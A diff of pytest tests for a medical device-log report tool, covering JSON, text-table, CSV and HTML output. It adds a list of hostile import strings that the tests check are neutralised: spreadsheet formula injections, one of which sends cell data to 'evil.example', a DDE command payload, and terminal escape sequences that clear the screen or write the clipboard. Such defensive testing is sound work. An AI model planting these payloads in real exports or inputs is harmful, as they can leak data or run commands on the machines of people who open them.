@@ -176,50 +176,29 @@ def test_redaction_scrubs_names_mrns_and_drug_names_in_every_format(dl):
     assert json.loads(outputs["json"])["redacted"] is True
 
 
-def test_streamed_json_is_the_document_item_for_item_even_with_awkward_text(dl):
-    """render_json formats items itself (items_json): every line must read back as the
-    item_record the other formats use, quotes, backslashes, control characters and
-    non-Latin letters included."""
+def test_json_reads_back_awkward_text_exactly(dl):
+    """orjson writes each record: quotes, backslashes, control characters and non-Latin
+    letters read back as they were, the fields in the documented order, an item a line."""
     from dataclasses import replace
 
     from devicelog.store.due import DueEntry
 
-    awkward = 'Zoë "Ziggy" O\'Brien \\ 王\n\t\x01 — µg'
+    awkward = 'Zoë "Ziggy" O\'Brien \\ 王\n\t\x01\x1b[2J — µg'
     entries = [
         DueEntry(replace(e.item, patient_name=awkward, why=e.item.why + " " + awkward), e.status) for e in dl.entries
     ]
     odd = replace(dl, entries=tuple(entries))
     out = io.StringIO()
     report.render_json(odd, out)
-    doc = json.loads(out.getvalue())
-    assert doc == json.loads(json.dumps(report.document(odd)))
+    text = out.getvalue()
+    assert "\x1b" not in text and "\\u001b[2J" in text  # JSON escapes ESC
+    doc = json.loads(text)
     assert [i["patient_name"] for i in doc["items"]] == [awkward] * len(entries)
     assert all(list(item) == list(report.FIELDS) for item in doc["items"])
-    for line, entry in zip(report.items_json(odd.entries, odd.as_of), odd.entries):
-        assert json.loads(line) == report.item_record(entry, odd.as_of)
-
-
-def _rich_text(dl, width, color=False):
-    """The text table as rich's own Table writes it, all rows in one table (the layout
-    plain_table and the chunked colour path must reproduce)."""
-    from rich.console import Console
-    from rich.text import Text
-
-    out = io.StringIO()
-    console = Console(file=out, width=width, force_terminal=color, no_color=not color,
-                      color_system="standard" if color else None, highlight=False, emoji=False, soft_wrap=False)
-    console.print(Text(report.title(dl), style="bold"))
-    console.print(Text(report.subtitle(dl)))
-    console.print()
-    table = report._text_table()
-    for n, e in enumerate(dl.entries):
-        if n:
-            table.add_row("", "", "", "")
-        table.add_row(*report._row_cells(e, dl.as_of))
-    console.print(table)
-    for line in report.foot_lines(dl):
-        console.print(Text(line))
-    return out.getvalue()
+    assert doc["items"][0]["why"].endswith(" " + awkward)
+    assert doc == report.document(odd)
+    item_lines = [line for line in text.splitlines() if line.startswith('    {"status":')]
+    assert len(item_lines) == len(entries) + len(odd.suppressed)
 
 
 def _awkward(dl):
@@ -239,33 +218,34 @@ def _awkward(dl):
 
 
 @pytest.mark.parametrize("width", [40, 80, 120])
-def test_text_table_is_what_rich_writes_in_chunks_or_not(dl, monkeypatch, width):
-    """The fast plain layout and the chunked colour layout equal rich's one-table output,
-    with wide letters, words wider than a column, extra spaces and control characters."""
-    odd = _awkward(dl)
-    monkeypatch.setattr(report, "TEXT_ROWS_PER_CHUNK", 2)
-    for case in (dl, odd):
-        assert report.text(case, width=width) == _rich_text(case, width)
+def test_text_table_drawn_in_chunks_reads_as_one_table(dl, monkeypatch, width):
+    """Chunks of 2 rows line up as the table of all rows drawn at once, with wide
+    letters, words wider than a column, extra spaces and control characters."""
+    for case in (dl, _awkward(dl)):
+        whole, coloured_whole = report.text(case, width=width), io.StringIO()
+        report.render_text(case, coloured_whole, width=width, color=True)
+        monkeypatch.setattr(report, "TEXT_ROWS_PER_CHUNK", 2)
         coloured = io.StringIO()
         report.render_text(case, coloured, width=width, color=True)
-        assert coloured.getvalue() == _rich_text(case, width, color=True)
+        assert report.text(case, width=width) == whole
+        assert coloured.getvalue() == coloured_whole.getvalue()
+        monkeypatch.undo()
+        assert all(len(line) <= width for line in whole.splitlines())
+        assert all(e.item.device_serial[:4] in whole for e in case.entries)
 
 
-def test_streamed_writers_write_what_the_whole_renderers_return(dl, monkeypatch):
-    """write_csv / write_html, chunk by chunk (here 2 rows a chunk), give the bytes of
-    the CSV built whole from every record, and the page render_html returns."""
+def test_streamed_writers_write_every_row_once(dl, monkeypatch):
+    """write_csv / write_html, chunk by chunk (here 2 rows a chunk): every item once, in
+    order, one BOM; the HTML page is the one render_html returns."""
     from devicelog.reports.due_html import write_html
 
-    odd = _awkward(dl)
-    for case in (dl, odd):
+    for case in (dl, _awkward(dl)):
+        whole = report.csv_bytes(case)
+        monkeypatch.setattr(report, "ROWS_PER_CHUNK", 2)
         out = io.BytesIO()
-        report.write_csv(case, out, rows_per_chunk=2)
-        whole = io.StringIO(newline="")  # the file as it was built before: every record, then encoded
-        writer = csv.DictWriter(whole, fieldnames=report.FIELDS, lineterminator="\r\n")
-        writer.writeheader()
-        for rec in report.records(case):
-            writer.writerow({k: "" if v is None else v for k, v in rec.items()})
-        assert out.getvalue() == report.csv_bytes(case) == whole.getvalue().encode(report.CSV_ENCODING)
+        report.write_csv(case, out)
+        monkeypatch.undo()
+        assert out.getvalue() == whole
         rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
         assert [r["item_key"] for r in rows] == [i.key for i in case.items]
         assert out.getvalue().count(b"\xef\xbb\xbf") == 1
@@ -274,3 +254,70 @@ def test_streamed_writers_write_what_the_whole_renderers_return(dl, monkeypatch)
         assert page.getvalue() == render_html(case)
         assert page.getvalue().count("data-item-key=") == len(case.entries)
         assert page.getvalue().endswith("</footer></body></html>\n")
+
+
+#: Texts a hostile import could carry (issue 19 §2).
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(1+1)",
+    "-2+3",
+    "\tTab Start",
+    "\rCR Start",
+    "Eve\x1b[2J\x1b[H Park",
+    "\x1b]0;pwned\x07Ann",
+    "\x1b]52;c;ZXZpbA==\x07Bob",
+]
+
+
+def _hostile(dl):
+    """Item n: name, model and why HOSTILE[n % 10]; serial and what HOSTILE[(n + 3) % 10]."""
+    from dataclasses import replace
+
+    from devicelog.store.due import DueEntry
+
+    out = []
+    for n, e in enumerate(dl.entries):
+        v, w = HOSTILE[n % len(HOSTILE)], HOSTILE[(n + 3) % len(HOSTILE)]
+        out.append(DueEntry(replace(e.item, patient_name=v, patient_mrn=w, device_serial=w, device_model=v, what=w, why=v), e.status))
+    return replace(dl, entries=tuple(out))
+
+
+def test_csv_cells_never_start_a_formula_and_show_control_characters(dl):
+    bad = _hostile(dl)
+    rows = list(csv.reader(io.StringIO(report.csv_bytes(bad).decode("utf-8-sig"), newline="")))
+    header, body = rows[0], rows[1:]
+    assert len(body) == len(bad.entries) == 11
+    for row in body:
+        for name, cell in zip(header, row):
+            if name == "days_until_due":
+                int(cell)  # a number ("-3" is a number, not a formula)
+                continue
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+            assert not any(ord(c) < 32 for c in cell), (name, cell)
+    cells = [dict(zip(header, row)) for row in body]
+    # Worked by hand: an apostrophe before =, +, -, @; a tab or CR shown as ␉ / ␍ (then
+    # nothing starts a formula); ESC shown as ␛ and BEL as ␇.
+    assert cells[0]["patient_name"] == "'" + HOSTILE[0] and cells[0]["device_serial"] == "'@SUM(1+1)"
+    assert cells[1]["patient_name"] == "'=cmd|' /C calc'!A0" and cells[1]["what"] == "'-2+3"
+    assert cells[2]["device_model"] == "'+1+1" and cells[2]["patient_mrn"] == "\u2409Tab Start"
+    assert cells[3]["why"] == "'@SUM(1+1)" and cells[3]["what"] == "\u240dCR Start"
+    assert cells[4]["what"] == "Eve\u241b[2J\u241b[H Park"
+    assert cells[6]["patient_name"] == "\u240dCR Start" and cells[6]["device_serial"] == "\u241b]52;c;ZXZpbA==\u2407Bob"
+    assert cells[7]["patient_name"] == "Eve\u241b[2J\u241b[H Park" and cells[7]["what"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
+
+
+@pytest.mark.parametrize("color", [False, True])
+def test_text_table_shows_escape_sequences_instead_of_running_them(dl, color):
+    bad = _hostile(dl)
+    out = io.StringIO()
+    report.render_text(bad, out, width=120, color=color)
+    shown = out.getvalue()
+    if not color:
+        assert "\x1b" not in shown
+    # With colour, rich writes its own SGR codes (ESC [ … m) and nothing else.
+    assert re.sub(r"\x1b\[[0-9;]*m", "", shown).count("\x1b") == 0
+    assert "\x07" not in shown and "\r" not in shown
+    plain = re.sub(r"\x1b\[[0-9;]*m", "", shown)
+    assert "␛]52;c;ZXZpbA==␇Bob" in plain and "Eve␛[2J␛[H Park" in plain
